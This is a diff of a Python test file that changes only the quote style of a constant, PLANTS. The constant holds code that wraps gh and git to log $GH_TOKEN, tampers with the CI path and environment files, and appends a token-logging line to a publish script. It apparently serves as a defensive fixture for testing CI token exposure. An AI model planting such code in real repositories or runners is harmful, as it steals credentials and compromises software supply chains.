@@ -176,7 +176,7 @@ def test_a_token_that_may_not_change_workflows_is_explained(proposals: Proposals
 
 
 # What a template may leave on the machine that runs its code, each to send away a token that comes there later.
-PLANTS = '''
+PLANTS = """
 import pathlib, subprocess
 here = subprocess.check_output(["git", "rev-parse", "--path-format=absolute", "--git-common-dir"], text=True).strip()
 thief = "#!/bin/sh\\necho \\"$0 $GH_TOKEN\\" >>{loot}\\ncase ${0##*/} in gh | git) PATH={path} exec \\"${0##*/}\\" \\"$@\\" ;; esac\\nexit 0\\n"
@@ -195,7 +195,7 @@ for name, line in (("GITHUB_PATH", helper.rpartition("/")[0]), ("GITHUB_ENV", f"
 pathlib.Path(here).with_name("scripts").joinpath("gitops", "publish.py").open("a").write(
     "\\nimport os\\nopen('{loot}', 'a').write('module ' + os.environ.get('GH_TOKEN', '') + '\\\\n')\\n"
 )
-'''
+"""
 
 
 class Machines:
